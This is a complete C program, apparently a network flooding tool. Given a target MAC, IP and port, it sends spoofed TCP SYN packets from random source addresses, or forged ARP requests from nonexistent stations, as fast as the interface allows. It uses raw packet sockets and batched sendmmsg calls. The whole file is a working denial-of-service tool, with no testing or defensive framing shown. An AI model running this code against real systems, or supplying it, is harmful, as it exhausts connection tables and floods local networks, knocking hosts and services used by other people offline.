/* Floods a station with SYNs from ever new addresses, or with ARP requests of
 * ever new stations, as fast as the interface takes them. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "args.h"

#define BATCH 64
#define FRAME 60

static uint64_t random_state = 88172645463325252u;

static uint64_t random64(void)
{
  random_state ^= random_state << 13;
  random_state ^= random_state >> 7;
  random_state ^= random_state << 17;
  return random_state;
}

static uint16_t checksum(const unsigned char *at, size_t len, uint32_t sum)
{
  for (size_t i = 0; i < len; i += 2)
    sum += (uint32_t)at[i] << 8 | at[i + 1];
  while (sum >> 16)
    sum = (sum >> 16) + (sum & 0xffff);
  return htons((uint16_t)~sum);
}

/* A station that does not exist sends to `mac`. */
static void ethernet(unsigned char *frame, const unsigned char *mac, uint16_t type)
{
  uint32_t station = (uint32_t)random64();
  memcpy(frame, mac, 6);
  frame[6] = 2;
  frame[7] = 0x66;
  memcpy(frame + 8, &station, 4);
  frame[12] = (unsigned char)(type >> 8);
  frame[13] = (unsigned char)type;
}

static void syn(unsigned char *frame, const unsigned char *mac, uint32_t ip, uint16_t port)
{
  memset(frame, 0, FRAME);
  ethernet(frame, mac, ETHERTYPE_IP);
  struct iphdr ih = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP };
  ih.tot_len = htons(sizeof(struct iphdr) + sizeof(struct tcphdr));
  ih.saddr = htonl(0x0b000000 | (random64() & 0xffffff));
  ih.daddr = htonl(ip);
  ih.check = checksum((unsigned char *)&ih, sizeof(ih), 0);
  struct tcphdr th = { .syn = 1, .doff = 5, .window = htons(1000) };
  th.source = htons((uint16_t)(1024 + random64() % 60000));
  th.dest = htons(port);
  th.seq = (uint32_t)random64();
  uint32_t pseudo = (ntohl(ih.saddr) >> 16) + (ntohl(ih.saddr) & 0xffff) + (ip >> 16) +
    (ip & 0xffff) + IPPROTO_TCP + sizeof(th);
  th.check = checksum((unsigned char *)&th, sizeof(th), pseudo);
  memcpy(frame + 14, &ih, sizeof(ih));
  memcpy(frame + 34, &th, sizeof(th));
}

static void arp(unsigned char *frame, const unsigned char *mac, uint32_t ip)
{
  static const unsigned char head[8] = { 0, 1, 8, 0, 6, 4, 0, 1 };
  memset(frame, 0, FRAME);
  ethernet(frame, mac, ETHERTYPE_ARP);
  uint32_t sender = htonl((ip & 0xff000000) | (random64() & 0xfffffe) | 0x10000), target = htonl(ip);
  memcpy(frame + 14, head, sizeof(head));
  memcpy(frame + 22, frame + 6, 6);
  memcpy(frame + 28, &sender, 4);
  memcpy(frame + 38, &target, 4);
}

int main(int argc, char *argv[])
{
  unsigned char mac[6];
  if (argc != 7 || (strcmp(argv[1], "syn") != 0 && strcmp(argv[1], "arp") != 0) ||
      sscanf(argv[3], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
             &mac[4], &mac[5]) != 6) {
    fprintf(stderr, "usage: %s syn|arp INTERFACE MAC IP PORT FRAMES\n", argv[0]);
    return 2;
  }
  uint32_t ip = arg_address(argv[4]);
  uint16_t port = (uint16_t)arg_number(argc, argv, 5, "PORT", 0, 0, 65535);
  uint64_t left = arg_number(argc, argv, 6, "FRAMES", 0, 1, 1000000000);
  int s = socket(AF_PACKET, SOCK_RAW, 0);
  struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[2]) };
  if (s < 0 || bind(s, (struct sockaddr *)&to, sizeof(to)) != 0) {
    perror("flood");
    return 1;
  }
  static unsigned char frames[BATCH][FRAME];
  struct iovec parts[BATCH];
  struct mmsghdr messages[BATCH];
  memset(messages, 0, sizeof(messages));
  for (unsigned i = 0; i < BATCH; i++) {
    parts[i] = (struct iovec){ .iov_base = frames[i], .iov_len = FRAME };
    messages[i].msg_hdr.msg_iov = &parts[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  uint64_t sent = 0;
  while (left > 0) {
    unsigned n = left < BATCH ? (unsigned)left : BATCH;
    for (unsigned i = 0; i < n; i++) {
      if (argv[1][0] == 's')
        syn(frames[i], mac, ip, port);
      else
        arp(frames[i], mac, ip);
    }
    for (unsigned at = 0; at < n;) {
      int done = sendmmsg(s, messages + at, n - at, 0);
      if (done < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
        perror("flood: send");
        return 1;
      }
      at += done > 0 ? (unsigned)done : 0;
    }
    left -= n;
    sent += n;
  }
  printf("flood: %llu frames\n", (unsigned long long)sent);
  return 0;
}
